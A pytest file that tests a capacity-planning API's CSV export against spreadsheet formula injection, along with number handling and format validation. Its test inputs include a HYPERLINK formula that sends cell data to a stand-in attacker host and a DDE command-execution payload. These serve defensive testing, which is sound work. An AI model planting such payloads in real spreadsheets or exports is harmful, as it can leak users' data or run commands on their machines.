"""Batch results as CSV (issue 23): text that a spreadsheet would run as a formula comes back quoted, our own
numbers (negative ones too) stay numbers, and an unknown ?format= is a 400 naming `format`."""
from __future__ import annotations

import csv
import io

import pytest

from api.batch_csv import CSV_COLUMNS, results_csv
from capplan.csv_cells import neutralise

DANGEROUS_IDS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "=1+1", "@SUM(A1)", "+1", "-2", "\tx", "\rx"]
PLAN = {"current_capacity": 5000, "current_load": 1000}


def _result(index: int, plan_id: str) -> dict:
    return {"index": index, "id": plan_id, "success": True, "method": "attention_bilstm",
            "history_source": "synthetic",
            "recommendations": {"action": "scale_down", "urgency": "low", "current_capacity": 5000,
                                "recommended_capacity": 4368, "capacity_change": -632,
                                "capacity_change_percent": -12.6, "metrics": {"max_predicted_load": 1500.5,
                                                                              "max_utilization": 0.3}},
            "risk_assessment": {"risk_level": "low", "p90_risk_level": "low", "critical_hours": 0}}


def _failed(index: int, plan_id: str, message: str) -> dict:
    return {"index": index, "id": plan_id, "success": False,
            "error": {"code": "validation_error", "message": message, "fields": {}}}


def _read(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text)))


@pytest.mark.parametrize("cell", DANGEROUS_IDS)
def test_text_that_starts_a_formula_gets_a_quote(cell):
    assert neutralise(cell) == "'" + cell
    assert neutralise("'" + cell) == "'" + cell        # twice is the same as once


@pytest.mark.parametrize("cell", ["web", "db-1", "", " =1", "'=1", -5, -12.6, 0, True, None])
def test_everything_else_is_left_alone(cell):
    assert neutralise(cell) is cell


def test_the_export_quotes_each_dangerous_id_and_message_and_keeps_numbers():
    results = [_result(i, plan_id) for i, plan_id in enumerate(DANGEROUS_IDS)]
    results.append(_failed(len(results), "bad", "=cmd|' /C calc'!A0"))
    rows = _read(results_csv(results))
    assert list(rows[0]) == CSV_COLUMNS
    assert [r["id"] for r in rows[:-1]] == ["'" + plan_id for plan_id in DANGEROUS_IDS]
    assert rows[-1]["error"] == "'=cmd|' /C calc'!A0"
    for row in rows[:-1]:
        assert row["capacity_change"] == "-632" and row["capacity_change_percent"] == "-12.6"
        assert row["action"] == "scale_down" and row["error"] == ""


def test_the_download_is_neutralised_end_to_end(app, client):
    plans = [{"id": plan_id, **PLAN} for plan_id in DANGEROUS_IDS]
    job_id = client.post("/api/capacity/batch", json={"plans": plans},
                         headers={"Prefer": "respond-async"}).get_json()["job_id"]
    store = app.extensions["capplan"].store
    store.save_plan_results(job_id, 0, {i: _result(i, plan_id) for i, plan_id in enumerate(DANGEROUS_IDS)})
    reply = client.get(f"/api/jobs/{job_id}/results?format=csv")
    assert reply.status_code == 200 and reply.mimetype == "text/csv"
    rows = _read(reply.get_data(as_text=True))
    assert [r["id"] for r in rows] == ["'" + plan_id for plan_id in DANGEROUS_IDS]
    assert {r["capacity_change"] for r in rows} == {"-632"}
    page = client.get(f"/api/jobs/{job_id}/results").get_json()["results"]
    assert [r["id"] for r in page] == DANGEROUS_IDS      # JSON is data, not a spreadsheet: ids as sent


@pytest.mark.parametrize("value", ["xml", "CSV", "", "json,csv"])
def test_an_unknown_results_format_is_400_naming_format(client, value):
    job_id = client.post("/api/capacity/batch", json={"plans": [PLAN]},
                         headers={"Prefer": "respond-async"}).get_json()["job_id"]
    reply = client.get(f"/api/jobs/{job_id}/results", query_string={"format": value})
    body = reply.get_json()
    assert reply.status_code == 400 and body["error"]["fields"] == {"format": "must be json or csv"}
    assert client.get(f"/api/jobs/{job_id}/results?format=json").status_code == 200
